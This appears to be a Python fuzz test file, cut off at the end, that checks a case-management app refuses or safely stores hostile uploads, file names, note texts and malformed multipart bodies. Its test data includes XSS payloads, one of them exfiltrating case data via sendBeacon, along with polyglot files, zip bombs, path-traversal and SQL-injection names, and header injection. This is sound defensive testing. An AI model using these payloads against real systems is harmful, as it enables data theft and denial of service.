"""Fuzzing the upload and note paths (issue 6): hypothesis generates hostile files, file names
and note texts; a fixed corpus of broken multipart bodies goes through the HTTP save route.

Every case must end one of two ways: refused with the app's own ValidationFailed (a message,
nothing stored), or stored safely (an allow-listed type that the bytes really are, images
re-encoded with nothing after their end marker, no markup, a clean name, a note whose HTML has
no script). Anything else, an exception of another kind or a 500, fails the test.

The world is built once per test and the examples run inside it (hypothesis's own loop), so a
test costs one database copy, not one per example. SQLite only: the PostgreSQL run of the same
service code is covered by the ordinary tests, and this file has to stay under a minute; the
tests of form fields and of broken multipart bodies run on both (PostgreSQL refuses NUL).
"""

from __future__ import annotations

import html
import io
import re
import struct
import unicodedata
import uuid
import zipfile
import zlib
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from PIL import Image
from sqlmodel import func, select
from starlette.testclient import TestClient

from caseapp import interactions, markdown
from caseapp.auth import sessions
from caseapp.db import session_scope
from caseapp.errors import ValidationFailed
from caseapp.files import MAX_NAME, _sniff
from caseapp.interactions import NewInteraction, open_attachment
from caseapp.models import Attachment, Interaction
from caseapp.routes import http_routes
from tests.conftest import World

# Most tests here run on SQLite only: the byte handling above the database is the same on both.
# The form fields and multipart corpus tests run on PostgreSQL too, which refuses NUL in text
# where SQLite stores it.
sqlite_only = pytest.mark.parametrize("data_dir", ["sqlite"], indirect=True)

FUZZ = settings(max_examples=40, deadline=None, database=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                       HealthCheck.large_base_example])
PASSWORD = "correct horse battery"
ORIGIN = {"Origin": "http://testserver"}
# What a stored attachment may be served as; never text/html, image/svg+xml or anything unknown.
ALLOWED_TYPES = {
    "image/jpeg", "image/png", "application/pdf", "application/msword", "application/rtf",
    "application/vnd.ms-excel", "application/vnd.ms-powerpoint",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.spreadsheet",
    "application/vnd.oasis.opendocument.presentation",
    "text/plain; charset=utf-8", "text/csv; charset=utf-8",
}
MARKUP = re.compile(rb"<\s*(?:script|html|svg|iframe)", re.I)
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


# --- crafted file bytes ----------------------------------------------------------------------

def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_claiming(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    """A valid-looking PNG whose IHDR declares any size; the pixels are never there."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + _png_chunk(b"IEND", b""))


def _jpeg_claiming(width: int, height: int) -> bytes:
    """SOI, a baseline SOF0 frame header declaring any size, then a broken scan."""
    sof = struct.pack(">BHHB", 8, height, width, 3) + b"".join(
        bytes([i, 0x11, 0]) for i in (1, 2, 3))
    return (b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01"
            + b"\x00\x00" + b"\xff\xc0" + struct.pack(">H", len(sof) + 2) + sof
            + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 32 + b"\xff\xd9")


def _gif_claiming(width: int, height: int) -> bytes:
    return (b"GIF89a" + struct.pack("<HHBBB", width, height, 0, 0, 0) + b"," +
            struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00;")


def _webp_claiming(width: int, height: int) -> bytes:
    """VP8X extended header: canvas size is 24-bit minus one, so up to 16M x 16M."""
    w, h = (max(1, width) - 1) & 0xFFFFFF, (max(1, height) - 1) & 0xFFFFFF
    vp8x = b"\x00\x00\x00\x00" + w.to_bytes(3, "little") + h.to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _real_image(fmt: str, size: tuple[int, int] = (24, 16), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (40, 120, 200) if mode == "RGB" else None).save(out, fmt)
    return out.getvalue()


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


REAL = {
    "jpeg": _real_image("JPEG"), "png": _real_image("PNG"), "gif": _real_image("GIF"),
    "webp": _real_image("WEBP"), "png-alpha": _real_image("PNG", mode="RGBA"),
    "pdf": b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n",
    "docx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
    "odt": _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
    "zip": _zip({"readme.txt": b"hello"}),
    "text": "Visited at home. «Ça va» 🙂\n".encode(),
    "rtf": b"{\\rtf1\\ansi Hello}",
}
HEADERS = [b"\xff\xd8\xff", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n",
           b"GIF89a", b"GIF87a", b"RIFF\x00\x00\x00\x00WEBPVP8 ", b"RIFF\xff\xff\xff\xffWEBPVP8X",
           b"%PDF-1.7\n", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1",
           b"\xef\xbb\xbf", b"MZ\x90\x00", b"\x7fELF"]
PAYLOADS = [b"<html><script>alert(document.cookie)</script></html>",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"<script>fetch('/api/cases').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))"
            b"</script>", b"<iframe src=javascript:alert(1)>",
            b"/Type /Action /S /JavaScript /JS (app.alert(1))", b"\r\n--x\r\nContent-Type: text/html"]
EXTENSIONS = [".jpg", ".jpeg", ".png", ".gif", ".webp", ".pdf", ".docx", ".xlsx", ".odt", ".doc",
              ".txt", ".csv", ".md", ".rtf", ".html", ".htm", ".svg", ".xml", ".js", ".exe",
              ".zip", ".docm", ".php", ".jpg.exe", ".exe.jpg", "", ".", ".JPG", ".PdF"]

random_binary = st.binary(min_size=0, max_size=4096)
corrupted_header = st.builds(lambda head, tail: head + tail, st.sampled_from(HEADERS),
                             st.binary(max_size=2048))


@st.composite
def mutated_real(draw: st.DrawFn) -> bytes:
    """A real file of an accepted kind, then cut short, bytes flipped, or both."""
    data = bytearray(REAL[draw(st.sampled_from(sorted(REAL)))])
    if draw(st.booleans()):
        data = data[: draw(st.integers(0, len(data)))]
    for _ in range(draw(st.integers(0, 8))):
        if data:
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
    return bytes(data)


polyglot = st.one_of(
    # A real image or document with a page after it, or a page inside a comment of one.
    st.builds(lambda kind, payload, junk: REAL[kind] + junk + payload,
              st.sampled_from(["jpeg", "png", "gif", "webp", "pdf", "png-alpha"]),
              st.sampled_from(PAYLOADS), st.binary(max_size=16)),
    st.builds(lambda head, payload: head + b"/*" + payload + b"*/=1;", st.sampled_from(HEADERS),
              st.sampled_from(PAYLOADS)),
    # SVG/HTML dressed up: BOM, whitespace, XML prolog, or text before the markup.
    st.builds(lambda pad, payload: pad + payload,
              st.sampled_from([b"", b"\xef\xbb\xbf", b"  \n\t", b'<?xml version="1.0"?>',
                               b"Dear team,\n", b"%!PS\n" + b"a" * 70_000]),
              st.sampled_from(PAYLOADS)),
    st.builds(lambda payload: _zip({"[Content_Types].xml": b"<Types/>",
                                    "word/document.xml": payload}), st.sampled_from(PAYLOADS)),
)


@st.composite
def huge_dimensions(draw: st.DrawFn) -> bytes:
    edge = st.one_of(st.sampled_from([0, 1, 65535, 65536, 2**24, 2**31 - 1, 2**32 - 1]),
                     st.integers(0, 2**32 - 1))
    width, height = draw(edge), draw(edge)
    make = draw(st.sampled_from(["png", "jpeg", "gif", "webp"]))
    if make == "png":
        return _png_claiming(width, height, *draw(st.sampled_from([(8, 2), (1, 0), (16, 6)])))
    if make == "jpeg":
        return _jpeg_claiming(min(width, 65535), min(height, 65535))
    if make == "gif":
        return _gif_claiming(min(width, 65535), min(height, 65535))
    return _webp_claiming(min(width, 2**24), min(height, 2**24))


@st.composite
def small_zip_bomb(draw: st.DrawFn) -> bytes:
    """Kilobytes on the wire, tens of megabytes unpacked, in the places the sniffer reads."""
    size = draw(st.sampled_from([1, 8, 32])) * 1024 * 1024
    where = draw(st.sampled_from(["mimetype", "word/document.xml", "[Content_Types].xml"]))
    entries = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
    if where == "mimetype":
        entries = {"mimetype": b"application/vnd.oasis.opendocument.text" + b" " * size}
    else:
        entries[where] = b"\x00" * size
    return _ZIP_BOMBS.setdefault((where, size), _zip(entries))


_ZIP_BOMBS: dict[tuple[str, int], bytes] = {}

MODES = {"PNG": ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"], "JPEG": ["L", "RGB", "CMYK"],
         "GIF": ["L", "P"], "WEBP": ["RGB", "RGBA"]}


@st.composite
def generated_image(draw: st.DrawFn, damage: bool = True) -> bytes:
    """A real image of any accepted format and mode, with odd EXIF and ICC, maybe animated,
    then maybe damaged: what the re-encoder really has to cope with."""
    fmt = draw(st.sampled_from(sorted(MODES)))
    mode = draw(st.sampled_from(MODES[fmt]))
    size = (draw(st.integers(1, 48)), draw(st.integers(1, 48)))
    colour = draw(st.integers(0, 255))
    image = Image.new(mode, size, colour if mode in ("1", "L", "P", "I;16") else
                      tuple([colour] * len(mode)))
    save: dict = {}
    if fmt in ("JPEG", "PNG", "WEBP") and draw(st.booleans()):
        exif = Image.Exif()
        exif[0x0112] = draw(st.integers(0, 70000))  # orientation: 1..8 are real
        exif[0x8825] = {1: "N", 2: (51.0, 30.0, 26.0)}  # GPS
        save["exif"] = exif.tobytes()
    if fmt in ("JPEG", "PNG", "WEBP") and draw(st.booleans()):
        save["icc_profile"] = draw(st.binary(min_size=1, max_size=300))
    if fmt == "GIF" and draw(st.booleans()):
        save.update(save_all=True, append_images=[image.copy()], duration=10, loop=0)
    if fmt == "PNG" and mode == "P" and draw(st.booleans()):
        save["transparency"] = colour
    out = io.BytesIO()
    image.save(out, fmt, **save)
    data = bytearray(out.getvalue())
    for _ in range(draw(st.sampled_from([0, 0, 1, 4])) if damage else 0):
        data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
    return bytes(data)


def _png_with_chunk(kind: bytes, body: bytes) -> bytes:
    png = REAL["png"]
    return png[:33] + _png_chunk(kind, body) + png[33:]  # after the 8-byte magic and IHDR


ancillary_bomb = st.builds(
    _png_with_chunk, st.sampled_from([b"zTXt", b"iCCP", b"iTXt", b"eXIf", b"tEXt"]),
    st.sampled_from([b"k\x00\x00" + zlib.compress(b"\x00" * (64 * 1024 * 1024), 9),
                     b"k\x00\x00\x00\x00\x00" + zlib.compress(b"<script>" * 100_000, 9),
                     b"bad\x00\x07\x00", b"\x00" * 10, b"<svg onload=alert(1)>"]))

hostile_bytes = {
    "random binary": random_binary,
    "corrupted header": corrupted_header,
    "mutated real file": mutated_real(),
    "polyglot": polyglot,
    "huge dimensions": huge_dimensions(),
    "small zip bomb": small_zip_bomb(),
    "generated image": generated_image(),
    "png ancillary chunk bomb": ancillary_bomb,
    "zero or tiny": st.sampled_from([b"", b"\x00", b"\x00" * 4096, b" ", b"\n", b"\xff"]),
}

NASTY_NAMES = ["../../etc/passwd", "..\\..\\windows\\win.ini", "a\x00.png", "a.png\x00.html",
               "photo\u202egpj.exe", "\u2066invoice\u2069.pdf", "CON", "nul.txt", ".htaccess",
               "/", "", " . ", "\ud800.png", "x\udfff", "名前.jpg", "\x1b[31mred.txt",
               "a" * 5000 + ".png", "%2e%2e%2fpasswd", "file:///etc/passwd", "a/b\\c.pdf",
               "<script>alert(1)</script>.txt", "'; DROP TABLE attachment;--.pdf", "\r\n.txt"]
file_name = st.one_of(
    st.sampled_from(NASTY_NAMES),
    st.builds(lambda stem, ext: stem + ext, st.text(max_size=300), st.sampled_from(EXTENSIONS)),
)


# --- checks ----------------------------------------------------------------------------------

def _stored_files() -> list[Path]:
    root = interactions.attachment_store().root
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _counts() -> tuple[int, int, int]:
    with session_scope() as db:
        notes = db.exec(select(func.count()).select_from(Interaction)).one()
        files = db.exec(select(func.count()).select_from(Attachment)).one()
    return notes, files, len(_stored_files())


def _ends_cleanly(data: bytes, content_type: str) -> bool:
    """A re-encoded image ends at its own end marker: nothing rides along after it."""
    if content_type == "image/jpeg":
        return data.endswith(b"\xff\xd9")
    return data.endswith(_png_chunk(b"IEND", b""))


def _check_safe_name(name: str) -> None:
    assert name and len(name) <= MAX_NAME, name
    assert "/" not in name and "\\" not in name, name
    assert not any(unicodedata.category(c) in ("Cc", "Cs") or c in BIDI for c in name), repr(name)
    assert name == name.strip(" ."), name


def _check_file(name: str, content_type: str, data: bytes, is_image: bool,
                thumbnail: bytes | None) -> None:
    """One stored file is safe to serve: allow-listed type that its bytes really are, a clean
    name, images re-encoded with nothing after their end, text without markup."""
    assert content_type in ALLOWED_TYPES, content_type
    _check_safe_name(name)
    kind = _sniff(data)
    assert kind is not None, content_type
    # The bytes are what the type says; a .csv is text that sniffs as plain text.
    sniffed = "text/csv; charset=utf-8" if kind.mime.startswith("text/plain") and \
        content_type.startswith("text/csv") else kind.mime
    assert sniffed == content_type, (kind, content_type)
    if is_image:
        assert content_type in ("image/jpeg", "image/png")
        assert not MARKUP.search(data)
        assert _ends_cleanly(data, content_type)
        with Image.open(io.BytesIO(data)) as img:
            assert img.format == content_type.split("/")[1].upper()
            assert img.width * img.height <= 2560 * 2560
            assert not img.info.get("exif") and not img.info.get("icc_profile")
        assert thumbnail is not None and thumbnail.startswith(b"\xff\xd8\xff")
        assert not MARKUP.search(thumbnail)
    else:
        assert thumbnail is None
        if content_type.startswith("text/"):
            assert not MARKUP.search(data) and not data.lstrip(
                b"\xef\xbb\xbf \t\r\n").startswith(b"<")


def _check_stored(world: World, interaction_id: int) -> None:
    """Everything stored for one interaction is safe to serve, read back as a browser gets it."""
    with session_scope() as db:
        stored = db.exec(select(Attachment).where(
            Attachment.interaction_id == interaction_id)).all()
    for att in stored:
        served = open_attachment(world.worker, att.id)
        thumb = open_attachment(world.worker, att.id, thumbnail=True) if served.is_image else None
        if thumb is not None:
            assert thumb.content_type == "image/jpeg"
        _check_file(served.display_name, served.content_type, served.data, served.is_image,
                    thumb.data if thumb else None)


def _try_save(world: World, files: list[tuple[str, bytes]], text: str = "Fuzzed upload") -> str:
    before = _counts()
    try:
        iid = interactions.add_interaction(world.worker, world.case_worker,
                                           NewInteraction(text=text), files=files)
    except ValidationFailed as exc:
        assert exc.errors and all(isinstance(m, str) and m for m in exc.errors.values())
        assert _counts() == before, "a refused save left something behind"
        return "refused"
    _check_stored(world, iid)
    return "stored"


# --- service level: files --------------------------------------------------------------------

@sqlite_only
@pytest.mark.parametrize("strategy", sorted(hostile_bytes))
def test_hostile_files_are_refused_or_stored_safely(world: World, strategy: str) -> None:
    outcomes: Counter[str] = Counter()

    @FUZZ
    @given(data=hostile_bytes[strategy], name=file_name)
    def one(data: bytes, name: str) -> None:
        outcomes[_try_save(world, [(name, data)])] += 1

    one()
    print(f"\n{strategy}: {dict(outcomes)}")
    assert sum(outcomes.values()) >= 10


def test_prepare_upload_alone_refuses_or_makes_safe_files_from_any_bytes() -> None:
    """No database, so many more examples: every strategy at once through the checker itself.
    Only FileRejected may come out; what comes out otherwise must be safe to store."""
    from caseapp.files import FileRejected, prepare_upload

    outcomes: Counter[str] = Counter()

    @settings(FUZZ, max_examples=300)
    @given(data=st.one_of(*hostile_bytes.values()), name=file_name)
    def one(data: bytes, name: str) -> None:
        try:
            prepared = prepare_upload(name, data, 20 * 1024 * 1024)
        except FileRejected as exc:
            assert str(exc).endswith("Nothing was saved."), str(exc)
            outcomes["refused"] += 1
            return
        _check_file(prepared.display_name, prepared.content_type, prepared.data,
                    prepared.is_image, prepared.thumbnail)
        outcomes["stored"] += 1

    one()
    print(f"\nprepare_upload: {dict(outcomes)}")
    assert outcomes["stored"] >= 20 and outcomes["refused"] >= 20


def test_sound_images_of_every_format_and_mode_are_accepted_and_cleaned() -> None:
    """The other half of "refused or safe": refusing everything would pass the tests above.
    Any undamaged image of an accepted format, however odd its EXIF or ICC, is kept."""
    from caseapp.files import prepare_upload

    @settings(FUZZ, max_examples=60)
    @given(data=generated_image(damage=False))
    def one(data: bytes) -> None:
        with Image.open(io.BytesIO(data)) as original:
            name = f"photo.{original.format.lower()}"
        prepared = prepare_upload(name, data, 20 * 1024 * 1024)
        _check_file(prepared.display_name, prepared.content_type, prepared.data,
                    prepared.is_image, prepared.thumbnail)
        assert b"Exif" not in prepared.data and b"GPS" not in prepared.data

    one()


@sqlite_only
def test_real_files_with_hostile_names_are_stored_under_clean_names(world: World) -> None:
    """The names alone: with content that is fine, every name must end in a safe stored one."""
    outcomes: Counter[str] = Counter()

    @FUZZ
    @given(name=file_name, kind=st.sampled_from(["jpeg", "png", "pdf", "docx", "text"]))
    def one(name: str, kind: str) -> None:
        outcomes[_try_save(world, [(name, REAL[kind])])] += 1

    one()
    print(f"\nnames: {dict(outcomes)}")
    # A name claiming another type is refused; most are not, so the stored path is exercised.
    assert outcomes["stored"] >= 10


@sqlite_only
def test_surrogates_in_a_file_name_are_dropped_not_a_crash(world: World) -> None:
    """Regression: a lone surrogate (possible from a page event's JSON) reached the database
    driver, which cannot encode it as UTF-8, and the save failed with UnicodeEncodeError."""
    iid = interactions.add_interaction(world.worker, world.case_worker,
                                       NewInteraction(text="Letter \ud800attached"),
                                       files=[("a\ud800b\udfff.txt", b"hello")])
    item = interactions.timeline(world.worker, world.case_worker).items[0]
    assert item.id == iid and item.attachments[0].name == "ab.txt"
    assert "\ud800" not in item.html and "Letter attached" in item.html
    # Text stored by any other path still renders: the renderer is not the place to crash.
    assert markdown.render("Lone \udfff here") == "<p>Lone \ufffd here</p>\n"


# --- service level: note text ----------------------------------------------------------------

NOTE_PIECES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "[click](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)", "![img](javascript:alert(1))", "<a href='javascript:x'>a</a>",
    "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", '<div style="x">', "<!-- -->",
    "| a | b |\n|---|---|\n| <b onclick=x>c</b> | d |", "```html\n<script>x</script>\n```",
    "\x00", "\ud800", "\udfff", "\x1b[2J", "\u202e", "\r\n", "\x7f", "\u0085", "\u2028",
    "# heading", "> quote", "**bold**", "[ok](https://example.org \"t\")", "<mailto:a@b.c>",
    "&lt;script&gt;", "&#x3C;script&#x3E;", "\\<script>",
]
note_text = st.lists(st.one_of(st.sampled_from(NOTE_PIECES), st.text(max_size=40)),
                     min_size=0, max_size=20).map("".join)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href"}


class _TagAudit(HTMLParser):
    """Collects every tag and attribute the sanitised HTML really contains."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def _check_rendered(text: str) -> None:
    _check_html(markdown.render(text))


def _check_html(rendered: str) -> None:
    assert "\x00" not in rendered and not re.search("[\ud800-\udfff]", rendered)
    audit = _TagAudit()
    audit.feed(rendered)
    audit.close()
    assert not {"script", "svg", "iframe", "img", "style", "object", "embed", "math",
                "div"} & set(audit.tags), rendered
    for name, value in audit.attributes:
        assert name in {"href", "title", "rel"}, rendered
        if name in URL_ATTRIBUTES:
            # Browsers drop tabs/newlines and leading spaces/controls before the scheme.
            url = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
            assert not url.startswith(("javascript:", "data:", "vbscript:")), rendered


@sqlite_only
def test_hostile_note_texts_are_refused_or_stored_and_render_without_script(
        world: World) -> None:
    outcomes: Counter[str] = Counter()

    @FUZZ
    @given(text=note_text)
    @example(text="")  # nothing at all, and nothing left once cleaned: both refused
    @example(text="\x00\ud800 \x1b\x7f\udfff")
    @example(text="[x](javascript:alert(1)) <img src=x onerror=alert(1)>")
    def one(text: str) -> None:
        outcome = _try_save(world, [], text=text)
        outcomes[outcome] += 1
        if outcome == "stored":
            item = interactions.timeline(world.worker, world.case_worker, limit=1).items[0]
            _check_html(item.html)
        _check_rendered(text)  # the renderer alone, on what was typed before any cleaning

    one()
    print(f"\nnote text: {dict(outcomes)}")
    assert outcomes["stored"] >= 10 and outcomes["refused"] >= 2  # the two empty examples


NASTY_LINES = ["", " ", "\x00", "a\x00b", "\ud800", "x\udfff", "\u202e", "\x1b[2J", "\r\n",
               "<script>x</script>", "'; DROP TABLE interaction;--", "٣", "ß" * 400, "a" * 65]
nasty_line = st.one_of(st.sampled_from(NASTY_LINES), st.text(max_size=80))
occurred_at = st.one_of(
    st.sampled_from(["", "now", "2026-02-30T10:00", "1999-12-31T23:59", "0001-01-01T00:00+23:59",
                     "9999-12-31T23:59-23:59", "0001-01-01T00:00:00+01:00", "2026-11-22T14:05",
                     "2026-11-22T14:05:00.999999+14:00", "2026-11-22 14:05Z", "2026-11-22\x00"]),
    st.datetimes().map(lambda d: d.isoformat(timespec="minutes")),
    st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()),
    nasty_line,
)
NASTY_FIELDS = {
    "kind": st.one_of(st.sampled_from(["home_visit", "phone_call", "summary"]), nasty_line),
    "occurred_at": occurred_at,
    "text": note_text,
    "private": st.booleans(),
    "concern_level": st.one_of(st.sampled_from(["low", "high"]), nasty_line),
    "outcome": nasty_line,
    "tags": st.lists(nasty_line, max_size=5),
    "client_ref": nasty_line,
}


@st.composite
def fields(draw: st.DrawFn) -> dict:
    """A sound note with one to three of its fields made hostile, so saves get deep enough."""
    values: dict = {"kind": "note", "occurred_at": "", "text": "Visited at home",
                    "private": False, "concern_level": None, "outcome": "", "tags": [],
                    "client_ref": None}
    for name in draw(st.sets(st.sampled_from(sorted(NASTY_FIELDS)), min_size=1, max_size=3)):
        values[name] = draw(NASTY_FIELDS[name])
    return values


def test_hostile_form_fields_are_refused_with_a_message_or_stored_clean(world: World) -> None:
    """Every field of a note, not only its text: what a page event or the save route can send.
    On both databases: PostgreSQL refuses NUL characters in text that SQLite would store."""
    from caseapp.errors import CaselineError

    outcomes: Counter[str] = Counter()

    @FUZZ
    @given(values=fields(), expected=st.one_of(st.none(), st.none(), st.integers(-(2**70), 2**70)))
    def one(values: dict, expected: int | None) -> None:
        before = _counts()
        try:
            iid = interactions.add_interaction(world.worker, world.case_worker,
                                               NewInteraction(**values), files=[],
                                               expected_version=expected)
        except CaselineError as exc:  # ValidationFailed, Conflict: the app's own answers
            assert str(exc), type(exc)
            assert _counts() == before, "a refused save left something behind"
            outcomes[f"refused ({type(exc).__name__})"] += 1
            return
        with session_scope() as db:
            saved = db.get(Interaction, iid)
            assert saved is not None
            for value in (saved.text, saved.outcome or "", saved.client_ref or ""):
                assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]", value)
        outcomes["stored"] += 1

    one()
    print(f"\nform fields: {dict(outcomes)}")
    assert outcomes["stored"] >= 3


@pytest.mark.parametrize("client_ref", ["\x00", "ref\x00", "\ud800", "a b", "x" * 65, " "])
def test_a_bad_save_reference_is_refused_before_any_query(world: World, client_ref: str) -> None:
    """Regression: a NUL in client_ref reached the duplicate lookup, and PostgreSQL answered
    DataError (a 500 through the save route); SQLite stored it."""
    with pytest.raises(ValidationFailed) as exc:
        interactions.add_interaction(world.worker, world.case_worker,
                                     NewInteraction(text="Hello", client_ref=client_ref))
    assert exc.value.errors == {"client_ref": "Bad save reference"}
    assert _counts() == (0, 0, 0)


@sqlite_only
@pytest.mark.parametrize("when", ["0001-01-01T00:00+23:59", "9999-12-31T23:59-23:59"])
def test_a_time_past_the_ends_of_the_calendar_is_refused(world: World, when: str) -> None:
    """Regression: converting these to UTC overflowed, and OverflowError escaped the service."""
    with pytest.raises(ValidationFailed) as exc:
        interactions.add_interaction(world.worker, world.case_worker,
                                     NewInteraction(text="Hello", occurred_at=when))
    assert exc.value.errors == {"occurred_at": "Enter a date and time"}


@sqlite_only
def test_notes_at_the_length_limit(world: World) -> None:
    from caseapp.config import settings as app_settings

    limit = app_settings().max_note_chars
    piece = "<script>x</script> [a](javascript:b) "
    at_limit = (piece * (limit // len(piece) + 1))[:limit]
    assert _try_save(world, [], text=at_limit) == "stored"
    _check_html(interactions.timeline(world.worker, world.case_worker,
                                               limit=1).items[0].html)
    with pytest.raises(ValidationFailed, match="limit is"):
        interactions.add_interaction(world.worker, world.case_worker,
                                     NewInteraction(text=at_limit + "x"))
    # Characters that clean away do not count against the limit; ones that stay do.
    assert _try_save(world, [], text=at_limit[:-1] + "\x00" * 50 + "y") == "stored"


# --- HTTP level ------------------------------------------------------------------------------

BOUNDARY = "fuzzboundary7MA4YWxkTrZu0gW"


def _part(name: str | bytes, value: bytes, filename: bytes | None = None,
          content_type: bytes | None = None) -> bytes:
    raw_name = name if isinstance(name, bytes) else name.encode()
    head = b'Content-Disposition: form-data; name="' + raw_name + b'"'
    if filename is not None:
        head += b'; filename="' + filename + b'"'
    if content_type is not None:
        head += b"\r\nContent-Type: " + content_type
    return b"--" + BOUNDARY.encode() + b"\r\n" + head + b"\r\n\r\n" + value + b"\r\n"


def _body(*parts: bytes, close: bool = True) -> bytes:
    return b"".join(parts) + ((b"--" + BOUNDARY.encode() + b"--\r\n") if close else b"")


def _good_fields(world: World, **override: bytes) -> list[bytes]:
    fields = {"case_id": str(world.case_worker).encode(), "client_ref": uuid.uuid4().hex.encode(),
              "author": str(world.worker.id).encode(), "kind": b"note", "text": b"Fuzzed note",
              **override}
    return [_part(k, v) for k, v in fields.items()]


MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def _corpus(world: World) -> list[tuple[str, bytes, str]]:
    """(what, body, content type): broken framing, missing and repeated fields, odd names."""
    png = REAL["png"]
    return [
        ("no boundary in the header", _body(*_good_fields(world)), "multipart/form-data"),
        ("boundary mismatch", _body(*_good_fields(world)),
         "multipart/form-data; boundary=somethingelse"),
        ("not closed", _body(*_good_fields(world), close=False), MULTIPART),
        ("cut mid-part", _body(*_good_fields(world))[:-40], MULTIPART),
        ("empty body", b"", MULTIPART),
        ("only the closing line", _body(), MULTIPART),
        ("missing case_id", _body(*[p for p in _good_fields(world) if b'"case_id"' not in p]),
         MULTIPART),
        ("missing client_ref", _body(*_good_fields(world, client_ref=b"")), MULTIPART),
        ("duplicate case_id", _body(*_good_fields(world), _part("case_id", b"999999999")),
         MULTIPART),
        ("case_id not a number", _body(*_good_fields(world, case_id=b"\xd9\xa3e9")), MULTIPART),
        ("huge field name", _body(*_good_fields(world), _part("n" * 200_000, b"v")), MULTIPART),
        ("huge text field", _body(*_good_fields(world, text=b"a" * (2 * 1024 * 1024))),
         MULTIPART),
        ("bogus kind and concern", _body(*_good_fields(
            world, kind=b"summary", concern_level=b"<script>", expected_version=b"9" * 40)),
         MULTIPART),
        ("json body", b'{"case_id": 1, "text": "x"}', "application/json"),
        ("text/plain body", b"case_id=1&text=x", "text/plain"),
        ("nested multipart/mixed", _body(*_good_fields(world), _part(
            "attachments", b"--inner\r\n\r\nx\r\n--inner--", None,
            b"multipart/mixed; boundary=inner")), MULTIPART),
        ("part without disposition", _body(*_good_fields(world)).replace(
            b'Content-Disposition: form-data; name="text"', b"X-Nothing: here"), MULTIPART),
        ("latin-1 filename", _body(*_good_fields(world), _part(
            "attachments", png, b"caf\xe9.png", b"image/png")), MULTIPART),
        ("invalid utf-8 filename", _body(*_good_fields(world), _part(
            "attachments", png, b"\xff\xfe\xed\xa0\x80../x.png", b"image/png")), MULTIPART),
        ("svg claiming to be a png", _body(*_good_fields(world), _part(
            "attachments", PAYLOADS[1], b"photo.png", b"image/svg+xml")), MULTIPART),
        ("html as text/plain file", _body(*_good_fields(world), _part(
            "attachments", PAYLOADS[0], b"notes.txt", b"text/plain")), MULTIPART),
        ("file field sent as text", _body(*_good_fields(world), _part("attachments", png)),
         MULTIPART),
        ("NUL in names and values", _body(*_good_fields(world, text=b"a\x00b"), _part(
            "attachments", b"hello", b"a\x00.txt\x00.html", b"text/html")), MULTIPART),
        ("header injection in filename", _body(*_good_fields(world), _part(
            "attachments", b"hello", b'x.txt"\r\nContent-Type: text/html\r\nX: "',
            b"text/plain")), MULTIPART),
        ("NUL in the save reference", _body(*_good_fields(world, client_ref=b"ref\x00")),
         MULTIPART),
        ("very long boundary", _body(*_good_fields(world)).replace(
            BOUNDARY.encode(), b"b" * 5000), "multipart/form-data; boundary=" + "b" * 5000),
    ]


def test_broken_multipart_bodies_never_get_a_500_and_refusals_store_nothing(
        world: World) -> None:
